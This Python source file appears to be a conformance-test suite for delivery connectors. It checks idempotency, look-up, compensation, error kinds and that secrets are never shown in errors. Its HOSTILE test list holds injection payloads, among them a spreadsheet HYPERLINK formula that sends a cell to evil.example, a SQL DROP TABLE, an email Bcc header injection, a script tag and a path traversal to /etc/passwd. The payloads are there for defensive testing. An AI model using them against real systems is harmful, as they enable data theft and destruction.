"""Requirements for every connector, as named checks against a receiver with a ledger."""

from __future__ import annotations

from collections.abc import Awaitable, Callable, Mapping, Sequence
from dataclasses import dataclass
from itertools import count
from typing import Protocol

from roadbed.kernel.json import JsonObject
from roadbed.usecases.destinations import (
    Connector,
    DeliveryRequest,
    EgressClient,
    RefusedError,
    Sent,
    TemporaryError,
    UnknownOutcomeError,
)

HOSTILE = (
    'it\'s "quoted" \\ and 50 %',
    "first\r\nBcc: all@example.org\r\n\r\nsecond",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+1",
    "@SUM(A1)",
    "'); DROP TABLE result; --",
    "<script>alert(1)</script> & <!channel>",
    "{task.id} %(key)s ${HOME} {{ 7 * 7 }}",
    "../../etc/passwd",
    "naïve 日本語 🛣",
)
_numbers = count(1)


class Ledger(Protocol):
    """The receiver's own records, read without the connector."""

    async def standing(self, request: DeliveryRequest) -> Sequence[Sequence[str]]:
        """The current effects of this delivery, each as its texts."""
        ...


class ConformanceError(AssertionError):
    """A connector breaks a requirement of the relay."""


class NotApplicable(Exception):  # noqa: N818 - no error: the check has nothing to look at
    """The subject lacks a part that this check needs."""


@dataclass(frozen=True, kw_only=True)
class Subject:
    """A connector under test, and the same connector with faulty receivers.

    ``unreachable`` sends to a closed port; ``cut`` uses a proxy that disconnects before the
    response; ``refusing`` sends to a receiver that refuses permanently. The content of
    ``make_request`` must reach the receiver: ``output.note`` above all.
    """

    connector: Connector
    ledger: Ledger
    egress: Callable[[], EgressClient]
    unreachable: Connector | None = None
    cut: Connector | None = None
    refusing: Connector | None = None
    secrets: Sequence[str] = ()

    async def send(self, request: DeliveryRequest) -> Sent:
        """Send it by the working connector."""
        return await self.connector.send(request, self.egress())


Check = Callable[[Subject], Awaitable[None]]


def make_request(note: str = "by hand", *, key: str | None = None) -> DeliveryRequest:
    """A delivery with its own key and ``note`` in its content."""
    number = next(_numbers)
    content: JsonObject = {"queue": "returns", "note": note, "count": number}
    task = f"tsk_{number:06}"
    return DeliveryRequest(
        id=f"dlv_{number:06}",
        key=key or f"check-{number:06}",
        use_case="check",
        task_id=task,
        destination="receiver",
        kind="result",
        content=content,
        facts={"task": {"id": task}, "input": {"text": note}, "output": content},
        attempt=1,
    )


async def check_connector(
    connector: Connector,
    ledger: Ledger,
    egress: Callable[[], EgressClient],
    *,
    unreachable: Connector | None = None,
    cut: Connector | None = None,
    refusing: Connector | None = None,
    secrets: Sequence[str] = (),
) -> Mapping[str, str]:
    """Each check by name with ``held`` or ``not looked at``. ``Subject`` describes the rest.

    Raises ``ConformanceError`` that names each check that failed.
    """
    subject = Subject(
        connector=connector,
        ledger=ledger,
        egress=egress,
        unreachable=unreachable,
        cut=cut,
        refusing=refusing,
        secrets=secrets,
    )
    results: dict[str, str] = {}
    failed: list[str] = []
    for name, check in CHECKS.items():
        try:
            await check(subject)
            results[name] = "held"
        except NotApplicable:
            results[name] = "not looked at"
        except Exception as error:
            failed.append(f"{name}: {error or type(error).__name__}")
    if failed:
        raise ConformanceError(f"{connector.kind} failed.\n" + "\n".join(failed))
    return results


async def settings_are_sound(subject: Subject) -> None:
    """``problems()`` finds none in the connector that works."""
    _hold(not subject.connector.problems(), f"it complains: {list(subject.connector.problems())}")


async def a_parcel_makes_one_effect(subject: Subject) -> None:
    """One delivery makes one effect."""
    request = make_request()
    await subject.send(request)
    await _check_effects(subject, request, 1)


async def a_repeated_key_makes_no_second_effect(subject: Subject) -> None:
    """If the receiver knows keys, five attempts make one effect."""
    if subject.connector.key_horizon is None:
        raise NotApplicable
    request = make_request()
    for _ in range(5):
        await subject.send(request)
    await _check_effects(subject, request, 1)


async def looking_up_finds_what_was_sent_and_nothing_else(subject: Subject) -> None:
    """``None`` before, found after; another key is not found."""
    if not subject.connector.can_look_up:
        raise NotApplicable
    request, neighbour = make_request(), make_request()
    before = await subject.connector.look_up(request, subject.egress())
    _hold(before is None, "it found what was never sent")
    await subject.send(request)
    effect = await subject.connector.look_up(request, subject.egress())
    _hold(effect is not None, "it did not find what was sent")
    other = await subject.connector.look_up(neighbour, subject.egress())
    _hold(other is None, "it took another delivery's effect for this one's")


async def taking_back_twice_is_once(subject: Subject) -> None:
    """No effect remains, a repetition changes nothing, and other effects are unchanged."""
    if not subject.connector.can_compensate:
        raise NotApplicable
    request, neighbour = make_request(), make_request()
    sent = await subject.send(request)
    await subject.send(neighbour)
    for _ in range(2):
        await subject.connector.compensate(request, sent, subject.egress())
        await _check_effects(subject, request, 0)
    await _check_effects(subject, neighbour, 1)
    if subject.connector.can_look_up:
        effect = await subject.connector.look_up(request, subject.egress())
        _hold(effect is None, "it still finds what was taken back")


async def what_it_cannot_do_it_refuses(subject: Subject) -> None:
    """``look_up`` and ``compensate`` raise if the receiver does not support them."""
    request = make_request()
    if not subject.connector.can_look_up:
        looked = subject.connector.look_up(request, subject.egress())
        await _raises(looked, RefusedError, "looking up")
    if not subject.connector.can_compensate:
        taken = subject.connector.compensate(request, Sent(), subject.egress())
        await _raises(taken, RefusedError, "taking back")


async def nobody_listening_is_temporary(subject: Subject) -> None:
    """Nothing was sent: a retry is allowed."""
    await _fails(subject, subject.unreachable, TemporaryError)


async def a_cut_after_sending_is_unknown(subject: Subject) -> None:
    """The effect may exist: the outcome is unknown, never "not delivered"."""
    await _fails(subject, subject.cut, UnknownOutcomeError)


async def a_refusal_is_for_good(subject: Subject) -> None:
    """A retry would fail too: a person must act."""
    await _fails(subject, subject.refusing, RefusedError)


async def secrets_are_never_shown(subject: Subject) -> None:
    """Neither the connector's text nor its errors contain a secret."""
    shown = [repr(subject.connector), *subject.connector.problems()]
    for item in (subject.unreachable, subject.cut, subject.refusing):
        if item is not None:
            try:
                await item.send(make_request(), subject.egress())
            except Exception as error:
                shown += [repr(item), repr(error), repr(error.__cause__)]
    for secret in subject.secrets:
        _hold(not any(secret in text for text in shown), "a secret stands in a text of it")


async def hostile_text_stays_data(subject: Subject) -> None:
    """Quotes, line breaks, formulas, SQL, HTML and templates arrive unchanged."""
    for note in HOSTILE:
        request = make_request(note)
        await subject.send(request)
        standing = await subject.ledger.standing(request)
        _hold(len(standing) == 1, f"{note!r} made {len(standing)} effects")
        carried = any(_lines(note) in _lines(text) for text in standing[0])
        _hold(carried, f"{note!r} did not arrive as it was: {standing[0]}")


CHECKS: Mapping[str, Check] = {
    check.__name__: check
    for check in (
        settings_are_sound,
        a_parcel_makes_one_effect,
        a_repeated_key_makes_no_second_effect,
        looking_up_finds_what_was_sent_and_nothing_else,
        taking_back_twice_is_once,
        what_it_cannot_do_it_refuses,
        nobody_listening_is_temporary,
        a_cut_after_sending_is_unknown,
        a_refusal_is_for_good,
        secrets_are_never_shown,
        hostile_text_stays_data,
    )
}


async def _check_effects(subject: Subject, request: DeliveryRequest, wanted: int) -> None:
    standing = len(await subject.ledger.standing(request))
    _hold(standing == wanted, f"{standing} effects stand at the receiver instead of {wanted}")


async def _fails(subject: Subject, connector: Connector | None, kind: type[Exception]) -> None:
    if connector is None:
        raise NotApplicable
    await _raises(connector.send(make_request(), subject.egress()), kind, "sending")


async def _raises(doing: Awaitable[object], kind: type[Exception], what: str) -> None:
    try:
        await doing
    except kind:
        return
    except Exception as error:
        raise ConformanceError(
            f"{what} raised {type(error).__name__} ({error}), not {kind.__name__}"
        ) from error
    raise ConformanceError(f"{what} passed, instead of {kind.__name__}")


def _hold(condition: bool, otherwise: str) -> None:  # noqa: FBT001 - as an assert
    if not condition:
        raise ConformanceError(otherwise)


def _lines(text: str) -> str:
    """Mail and workbooks have other line ends."""
    return text.replace("\r\n", "\n").replace("\r", "\n")
